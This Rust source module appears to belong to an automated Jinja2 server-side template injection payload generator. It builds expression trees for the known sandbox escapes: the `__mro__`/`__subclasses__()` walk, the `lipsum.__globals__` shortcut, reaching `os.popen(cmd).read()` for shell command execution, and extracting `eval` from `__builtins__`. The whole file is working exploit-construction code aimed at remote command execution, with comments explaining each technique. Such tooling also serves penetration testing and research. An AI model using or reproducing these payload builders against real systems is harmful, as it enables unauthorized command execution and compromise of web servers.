//! Shared goal-tree builders used by more than one rule family: the
//! object-hierarchy walk (`"".__class__.__mro__[1].__subclasses__()[N]`)
//! that every goal needing a Python class reference bottoms out in, and
//! the `lipsum` global shortcut the canonical percent-string (spec §6)
//! itself depends on.

use crate::goal::Goal;

/// Index into `object.__subclasses__()` expected to land on a class whose
/// `__init__.__globals__` contains commonly-imported modules (`os`, et
/// al). This is Python-version- and process-dependent in a real target;
/// per `DESIGN.md`'s Open Question decision this is resolved as a fixed
/// constant, a known portability limitation rather than something the
/// engine can discover generically (the oracle reveals nothing about
/// which index is live).
pub const SUBCLASS_WALK_INDEX: u64 = 133;

/// `"".__class__.__mro__[1]` — the `object` class, reached from an empty
/// string literal so the walk needs no primed context variable.
pub fn object_class_goal() -> Goal {
    Goal::item(
        Goal::attr_chain(
            Goal::ClassAttribute(Box::new(Goal::Str(String::new()))),
            ["__mro__"],
        ),
        Goal::UnsignedInt(1),
    )
}

/// `object.__subclasses__()`.
pub fn subclasses_list_goal() -> Goal {
    Goal::call(Goal::attr_chain(object_class_goal(), ["__subclasses__"]), vec![])
}

/// The subclass at [`SUBCLASS_WALK_INDEX`].
pub fn target_class_goal() -> Goal {
    Goal::item(subclasses_list_goal(), Goal::UnsignedInt(SUBCLASS_WALK_INDEX))
}

/// That subclass's `__init__.__globals__` — a dict of the module-level
/// names visible to whatever module defined the class, most usefully
/// already-imported modules like `os`.
pub fn globals_via_subclass_walk() -> Goal {
    Goal::attr_chain(target_class_goal(), ["__init__", "__globals__"])
}

/// `lipsum.__globals__` — `lipsum` is a Jinja2 template global (a lorem
/// ipsum generator) present without any context priming; its `__globals__`
/// is a shortcut to the same kind of dict `globals_via_subclass_walk`
/// reaches, without the version-dependent subclass index. This is exactly
/// the technique spec §6's canonical percent-string literal is built from
/// (`dict(globals=x)|join`).
pub fn globals_via_lipsum() -> Goal {
    Goal::attr_chain(Goal::Literal("lipsum".to_string()), ["__globals__"])
}

/// Resolve a module reference by indexing a globals dict for its name,
/// trying the cheap `lipsum` shortcut before the more portable but longer
/// subclass walk.
pub fn module_via_globals(globals: Goal, module: &str) -> Goal {
    Goal::item(globals, Goal::Str(module.to_string()))
}

/// `<os module>.popen(cmd).read()`, built on top of whatever goal resolves
/// to the `os` module reference.
pub fn popen_read_from(os_module: Goal, cmd: &str) -> Goal {
    let popen_call = Goal::call(
        Goal::attr_chain(os_module, ["popen"]),
        vec![Goal::Str(cmd.to_string())],
    );
    Goal::call(Goal::attr_chain(popen_call, ["read"]), vec![])
}

/// `__builtins__['eval']`-ish: index a globals dict for the builtins dict,
/// then for `eval` inside it.
pub fn eval_func_from(globals: Goal) -> Goal {
    let builtins = Goal::item(globals, Goal::Str("__builtins__".to_string()));
    Goal::item(builtins, Goal::Str("eval".to_string()))
}
